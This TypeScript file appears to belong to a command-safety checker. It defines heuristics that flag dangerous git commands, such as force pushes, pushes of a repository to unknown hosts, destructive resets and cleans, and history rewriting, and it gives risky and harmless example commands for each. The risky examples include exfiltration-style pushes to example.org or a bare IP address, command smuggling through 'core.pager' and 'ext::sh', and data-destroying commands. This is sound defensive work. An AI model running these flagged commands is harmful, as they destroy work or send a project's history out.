// Git: commands that throw away work or rewrite what others already have.
import { remoteHost } from "../../normalise/hosts.ts";
import { optionValue, parseOptions } from "../../normalise/options.ts";
import { severity } from "../bands.ts";
import { type Heuristic, firstOf, onCommand } from "../heuristic.ts";
import { given, harmless, joined, operands } from "../read.ts";
import type { CommandFact } from "../../../../shared/facts.ts";

/** The subcommand and what follows it, with git's own options (`-C dir`, `-c key=value`) taken off. */
function sub(command: CommandFact): { readonly name: string; readonly rest: readonly string[] } {
  const list = command.arguments;
  let index = 0;
  while (index < list.length) {
    const argument = list[index] ?? "";
    if (!argument.startsWith("-")) break;
    index +=
      argument === "-C" ||
      argument === "-c" ||
      argument === "--git-dir" ||
      argument === "--work-tree" ||
      argument === "--namespace"
        ? 2
        : 1;
  }
  return { name: list[index] ?? "", rest: list.slice(index + 1) };
}

const rehearsal = (command: CommandFact): boolean =>
  harmless(command) || (given(command, "n") && sub(command).name !== "commit");

export const git: readonly Heuristic[] = [
  {
    id: "git-force-push",
    threat: "Lost version history",
    technique: "T1565.001",
    score: severity.ask,
    check: onCommand(["git"], (command) => {
      const { name, rest } = sub(command);
      if (name !== "push" || rehearsal(command)) return null;
      if (rest.some((argument) => /^(?:-[a-z]*f[a-z]*|--force(?:=.*)?)$/u.test(argument)))
        return "It overwrites what others already have";
      if (
        rest.some((argument) => /^(?:--mirror|--prune|--delete|-d)$/u.test(argument) || /^:[\w./-]+$/u.test(argument))
      )
        return "It deletes branches or tags that others have";
      return rest.some((argument) => /^\+\S/u.test(argument)) ? "It overwrites what others already have" : null;
    }),
    examples: {
      risky: [
        "git push --force origin main",
        "git push -f",
        "git push origin +main",
        "git push origin --delete main",
        "git push origin :main",
      ],
      honest: ["git push", "git push -u origin feature", "git push --tags upstream", "git push --dry-run -f"],
    },
  },
  {
    id: "git-push-elsewhere",
    threat: "Data exfiltration",
    technique: "T1567.001",
    score: severity.ask,
    check: onCommand(["git"], (command, view) => {
      const { name, rest } = sub(command);
      if (name !== "push" || rehearsal(command)) return null;
      const parsed = parseOptions(rest, { short: "o", long: ["push-option", "receive-pack", "exec", "repo"] });
      const target = optionValue(parsed, "--repo") ?? parsed.operands[0] ?? "";
      if (remoteHost(target, "upload")?.local === false)
        return "It sends the project's history to an address instead of a place the project knows";
      // Another spelling of the same place is everyday; everything at once, or a bare number, is not.
      const moved = view.byProgram.get("git")?.some((other) => {
        const remote = sub(other);
        if (remote.name !== "remote" || remote.rest[0] !== "set-url") return false;
        return rest.includes("--all") || remote.rest.some((word) => /(?:\/\/|@)\d{1,3}(?:\.\d{1,3}){3}\b/u.test(word));
      });
      return moved === true ? "It sends the project's history to a place it has just changed" : null;
    }),
    examples: {
      risky: [
        "git push https://example.org/x.git HEAD",
        "git push --all git@example.org:x/y.git",
        "git push ssh://git@example.org/x.git HEAD:main",
        "git push -o ci.skip --repo=https://example.org/x.git",
        "git remote set-url origin https://example.org/x.git && git push --all",
        "git remote set-url origin https://203.0.113.8/x.git && git push",
      ],
      honest: [
        "git push origin HEAD",
        "git push -u origin feature/https",
        "git push ../backup.git main",
        "git push http://localhost:3000/me/x.git main",
        "git remote add origin https://example.org/me/x.git && git push -u origin main",
        "git push -o ci.skip origin release.1:release.1",
        "git remote set-url origin git@example.org:me/x.git && git push",
      ],
    },
  },
  {
    id: "git-lease-push",
    threat: "Lost version history",
    score: severity.warn,
    check: onCommand(["git"], (command) =>
      sub(command).name === "push" && sub(command).rest.some((argument) => argument.startsWith("--force-with-lease"))
        ? "It replaces a branch that others may have"
        : null,
    ),
    examples: { risky: ["git push --force-with-lease"], honest: ["git push"] },
  },
  {
    id: "git-work-lost",
    threat: "Lost version history",
    technique: "T1485",
    score: severity.ask,
    check: onCommand(["git"], (command) => {
      const { name, rest } = sub(command);
      if (rehearsal(command)) return null;
      const line = rest.join(" ");
      if (name === "reset" && /--(?:hard|merge)\b/u.test(line)) return "It throws away changes that are not committed";
      if (name === "clean" && rest.some((argument) => /^(?:-[a-z]*f[a-zA-Z]*|--force)$/u.test(argument)))
        return "It deletes files that are not under version control";
      if (
        name === "checkout" &&
        ((/(?:^|\s)--\s+\S/u.test(line) && !line.startsWith("-b")) || /^\.$|\s\.$|(?:^|\s)(?:-f|--force)\b/u.test(line))
      )
        return "It throws away changes that are not committed";
      if (
        name === "restore" &&
        !(/--staged|-S\b/u.test(line) && !/--worktree|-W\b/u.test(line)) &&
        rest.length > 0 &&
        !/--patch|-p\b/u.test(line)
      )
        return "It throws away changes that are not committed";
      if (name === "switch" && /--discard-changes|(?:^|\s)(?:-f|--force)\b|-C\b/u.test(line))
        return "It throws away changes that are not committed";
      if (name === "stash" && /^(?:drop|clear)/u.test(line)) return "It throws away stashed changes";
      if (name === "branch" && /(?:^|\s)(?:-D|-[a-z]*D[a-z]*|--delete --force|-d -f|-f -d)\b/u.test(line))
        return "It deletes a branch that is not merged";
      if (name === "worktree" && /^remove\b.*(?:--force|-f)\b/u.test(line))
        return "It deletes a work tree with its changes";
      if (name === "rm" && /(?:^|\s)-[a-z]*r[a-z]*f|-[a-z]*f[a-z]*r/u.test(line) && !/--cached/u.test(line))
        return "It deletes files with changes that are not committed";
      if (name === "submodule" && /^deinit\b.*(?:-f|--force|--all)/u.test(line))
        return "It deletes the files of a submodule";
      return null;
    }),
    examples: {
      risky: [
        "git reset --hard HEAD~3",
        "git clean -xdf",
        "git checkout -- .",
        "git stash clear",
        "git branch -D feature",
        "\\git reset --hard origin/main",
      ],
      honest: [
        "git checkout main",
        "git clean -n",
        "git stash",
        "git restore --staged a.ts",
        "git branch -d merged",
        "git reset HEAD a.ts",
      ],
    },
  },
  {
    id: "git-history-rewritten",
    threat: "Lost version history",
    technique: "T1070",
    score: severity.ask,
    check: firstOf(
      onCommand(["git"], (command) => {
        const { name, rest } = sub(command);
        const line = rest.join(" ");
        if (harmless(command)) return null;
        if (name === "filter-branch" || name === "filter-repo") return "It rewrites the whole history";
        if (name === "reflog" && /^(?:expire|delete)/u.test(line))
          return "It deletes the record that lost commits are found by";
        if (name === "gc" && /--prune=(?:now|all)/u.test(line)) return "It deletes commits that nothing points to";
        if (name === "prune" && rest.length === 0) return "It deletes commits that nothing points to";
        if (name === "update-ref" && /(?:^|\s)-d\b/u.test(line)) return "It deletes a reference to commits";
        return null;
      }),
      onCommand(["bfg", "git-filter-repo", "git-filter-branch"], () => "It rewrites the whole history"),
    ),
    examples: {
      risky: [
        "git filter-branch --force --tree-filter 'rm -f a' HEAD",
        "git reflog expire --expire=now --all",
        "git gc --prune=now",
      ],
      honest: ["git gc", "git reflog", "git rebase develop"],
    },
  },
  {
    id: "git-runs-command",
    threat: "Living off the land",
    technique: "T1202",
    score: severity.ask,
    check: onCommand(["git"], (command) =>
      /(?:^|\s)-c\s*(?:core\.(?:sshcommand|pager|editor|fsmonitor|hookspath|gitproxy)|alias\.\S+|pager\.\S+|diff\.external|protocol\.ext\.allow)=(?:!|\S*(?:sh|\/)|always)/iu.test(
        joined(command),
      ) ||
      operands(command).some((operand) => operand.startsWith("ext::")) ||
      Object.keys(command.assignments).some(
        (name) =>
          /^(?:GIT_SSH_COMMAND|GIT_PAGER|GIT_EDITOR|GIT_EXTERNAL_DIFF|PAGER)$/u.test(name) &&
          /\bsh\b|\/(?:tmp|dev)\//u.test(command.assignments[name] ?? ""),
      )
        ? "It makes git run another program"
        : null,
    ),
    examples: {
      risky: ["git -c core.pager='sh -c id' log", "git clone ext::sh -c id"],
      honest: ["git -c core.pager=cat log", "git -c color.ui=never status"],
    },
  },
];
